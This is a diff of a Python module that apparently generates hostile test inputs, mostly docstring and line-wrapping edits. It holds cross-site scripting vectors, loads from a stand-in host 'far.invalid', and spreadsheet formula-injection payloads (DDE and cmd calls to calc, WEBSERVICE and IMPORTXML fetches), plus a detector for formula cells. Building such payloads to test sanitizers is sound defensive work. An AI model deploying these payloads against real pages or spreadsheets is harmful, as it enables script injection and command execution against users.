@@ -1,4 +1,4 @@
-"""Hostile texts, addresses and cells, made by putting together what such things are made of; nobody's list."""
+"""Hostile texts, addresses and cells, put together from what such things are made of; nobody's list."""
 
 import re
 from collections.abc import Iterator
@@ -10,12 +10,14 @@ RUN: Final = "top.ran.push({number})"
 FAR: Final = "http://far.invalid/{number}"
 # what runs a script, or asks another machine for something, once it is markup
 VECTORS: Final = (
-    "<script>{run}</script>", "<script src={far}></script>", "<img src=x onerror={run}>", "<svg onload={run}></svg>",
+    "<script>{run}</script>", "<script src={far}></script>", "<img src=x onerror={run}>",
+    "<svg onload={run}></svg>",
     "<svg><animate onbegin={run} attributeName=x dur=1s></svg>", "<details open ontoggle={run}>x</details>",
     "<input autofocus onfocus={run}>", "<iframe srcdoc='<script>{run}</script>'></iframe>",
     '<iframe src="javascript:{run}"></iframe>', "<video><source onerror={run}></video>",
     "<object data={far}></object>", "<link rel=stylesheet href={far}>", "<style>@import '{far}';</style>",
-    "<img src={far}>", "<a href='javascript:{run}' autofocus onfocus={run}>x</a>", "<marquee onstart={run}>x</marquee>",
+    "<img src={far}>", "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
+    "<marquee onstart={run}>x</marquee>",
 )  # fmt: skip
 # what ends the place in which a text stands, and a place in which it would
 PLACES: Final = (
@@ -44,7 +46,7 @@ MARKDOWN: Final = (
 
 @dataclass(frozen=True)
 class Markup:
-    """A text that would run a script, or fetch from afar, if it were taken for markup; `place`: where it would."""
+    """A text that would run, or fetch from afar, were it taken for markup; `place`: where it would."""
 
     text: str
     place: str
@@ -81,8 +83,8 @@ BEGINNINGS: Final = (
     "; =",
 )
 FORMULAS: Final = (
-    "1+1", "HYPERLINK(\"http://far.invalid\",\"x\")", "cmd|' /C calc'!A0", "WEBSERVICE(\"http://far.invalid\")",
-    "IMPORTXML(\"http://far.invalid\",\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "SUM(A1:A9)*cmd|' /C calc'!A0",
+    "1+1", 'HYPERLINK("http://far.invalid","x")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://far.invalid")',
+    'IMPORTXML("http://far.invalid","//a")', 'DDE("cmd";"/C calc";"x")', "SUM(A1:A9)*cmd|' /C calc'!A0",
 )  # fmt: skip
 
 
@@ -91,7 +93,7 @@ def formulas() -> list[str]:
 
 
 def runs_as_formula(cell: str) -> bool:
-    """Whether some spreadsheet would take a cell, or a part of it where semicolons or lines separate, for one."""
+    """Whether a spreadsheet would take a cell for one, or a part where semicolons or lines separate."""
     parts = re.split(r"[;\t\r\n]", cell)
     return any(part.strip(" \u00a0\ufeff\0").startswith(tuple("=+-@＝＋－＠")) for part in parts if part)
 
